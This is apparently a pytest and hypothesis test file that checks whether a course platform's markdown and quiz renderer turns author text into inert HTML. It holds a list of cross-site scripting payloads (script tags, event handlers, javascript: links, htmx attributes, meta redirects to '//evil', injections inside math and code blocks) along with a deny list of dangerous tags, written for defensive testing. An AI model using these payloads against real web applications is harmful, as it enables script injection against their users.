"""Can an author's text do anything in a reader's browser but be read?"""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.content.prose import Pieces
from tests.content.texts import FRONT, QUIZ, body, question, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:alert(1))",
    "<p hx-get='/x' hx-trigger='load'>x</p>",
    "<div data-hx-on:click='alert(1)'>x</div>",
    "<lab-run src='//evil'></lab-run>",
    "<bet-form for='x'><form action='//evil'><input name=guess></form></bet-form>",
    "<p style='position:fixed' class='top' id='quiz'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x'></object><embed src='x'><base href='//evil/'>",
    "<meta http-equiv=refresh content='0;url=//evil'><link rel=stylesheet href=//evil>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><button formaction='javascript:alert(1)'>x</button></form>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--question--><img src=x onerror=alert(1)><!--question-->",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{position:fixed}{x} \\class{top}{y}$",
    '[x](http://e.org/$\\text{"onmouseover=alert(1) x="}$)',
    '[x](http://e.org "<p>$\\text{" onmouseover=alert(1) "}$</p>")',
    "<a title='$\\text{\" onclick=alert(1) \"}$' href='http://e.org'>x</a>",
    "```python\n<script>alert(1)</script>\n```",
    '```html title="x\' onclick=alert(1)"\n<b>\n```',
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>\n\n## <img src=x onerror=alert(1)>",
    "/// details | <script>alert(1)</script>\n<img src=x onerror=alert(1)>\n///",
    "/// tabs\n/// tab | A'onclick=alert(1)\nx\n///\n/// tab | \"><script>\ny\n///\n///",
    '/// lab | caching"onclick=alert(1)\n///',
    "/// lab | caching\n    preset: <script>\n///",
    "/// diagram | </title><script>alert(1)</script>\nnodes: {a: {type: app, label: </text><script>}}\n"
    "description: </desc><script>\n///",
    "/// claim\n    lab: caching\n    figure: hit_ratio\n    operator: within\n    value: 0.5\n    tolerance: 0.1\n"
    '    params: {"policy": "lru\\"><script>"}\n\n<script>alert(1)</script>\n///',
]
FORBIDDEN = {"script", "style", "iframe", "object", "embed", "base", "meta", "link", "img", "noscript", "lab-run"}


class Reader(HTMLParser):
    """Notes every tag and attribute that a browser would see."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes = set(), []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def harmful(html):
    """Return what in the HTML could act, was not made by us, or points somewhere odd."""
    seen = Reader(html)
    found = [tag for tag in seen.tags if tag in FORBIDDEN]
    for tag, name, value in seen.attributes:
        if name.startswith(("on", "data-hx", "style")) or name in ("srcdoc", "formaction"):
            found.append((tag, name, value))
        if name in ("href", "src", "action", "hx-get") and not value.startswith(("/", "#", "http://e.org", "https://")):
            found.append((tag, name, value))
        if name == "hx-get" and not value.startswith(("/learn/blocks/caching/quiz/", "/labs/caching/?preset=")):
            found.append((tag, name, value))
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_becomes_words_or_nothing(attack):
    assert harmful(body(attack).html) == []


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("place", ["question", "explanation", "options"])
def test_an_attack_in_a_quiz_becomes_words_or_nothing(attack, place):
    text = attack.replace("'", "").replace("\n", " ")
    value = f"'{text}'" if place != "options" else f"[{{text: '{text}', correct: true}}, {{text: n, why: '{text}'}}]"
    lesson = render(FRONT + QUIZ + question(7, **{place: value}))
    assert harmful(lesson.html) == []
    assert all(
        harmful(q.question + q.explanation + "".join(o.text + o.why for o in q.options)) == [] for q in lesson.questions
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_the_front_matter_stays_text(attack):
    quoted = attack.replace("'", "''").replace("\n", " ").replace("\t", " ")[:80]
    lesson = render(FRONT.replace("A cache is a bet", f"'{quoted}'") + QUIZ)
    assert harmful(lesson.html) == []


def test_a_reference_to_a_sign_that_no_book_can_hold_is_dropped():
    assert "<p>ab c</p>" in body("a&#1;b&#xFFFF; c&#8;").html


def test_nobody_guesses_a_token_because_each_rendering_has_another():
    assert Pieces().nonce != Pieces().nonce


def test_a_token_that_was_guessed_all_the_same_is_not_honoured_in_an_attribute():
    pieces = Pieces()
    token = pieces.put("<b>")
    assert pieces.restore_inline(f'<a title="{token}">{token}</a>') == '<a title=""><b></a>'


PIECES = st.sampled_from(
    [
        "<script>",
        "</script>",
        "<img src=x ",
        "onerror=alert(1)",
        ">",
        '"',
        "'",
        "<a href=",
        "javascript:",
        "$",
        "$$",
        "`",
    ]
    + [
        "\n",
        "\n\n",
        "    ",
        "```",
        "///",
        "/// lab | caching",
        "/// quiz",
        "/// tabs",
        "/// tab | A",
        "/// diagram | D",
    ]
    + [
        "[x](",
        ")",
        "<!--",
        "-->",
        "&lt;",
        "&#x3c;",
        "\\",
        "{",
        "}",
        "\\text{",
        "|",
        "- ",
        "> ",
        "## ",
        "id: a",
        "<p title=",
    ]
)


@given(st.lists(PIECES | st.text(max_size=6), max_size=40).map("".join))
@settings(deadline=None, max_examples=200)
def test_no_mixture_of_signs_can_act(text):
    assert harmful(body(text).html) == []


@given(st.text(max_size=400))
@settings(deadline=None, max_examples=100)
def test_any_text_gives_problems_and_never_an_exception(text):
    lesson = render(text)
    assert lesson.problems or text.startswith("---")
    assert all(problem.line >= 1 and problem.message for problem in lesson.problems)


@pytest.mark.parametrize("sign", ["> ", "- ", "[", "*", "`", "$", "<b>", "(", "\\", "/// details | x\n", "{", "| "])
def test_deep_nesting_is_borne(sign):
    assert render(FRONT + sign * 1500 + "x" + QUIZ).html is not None
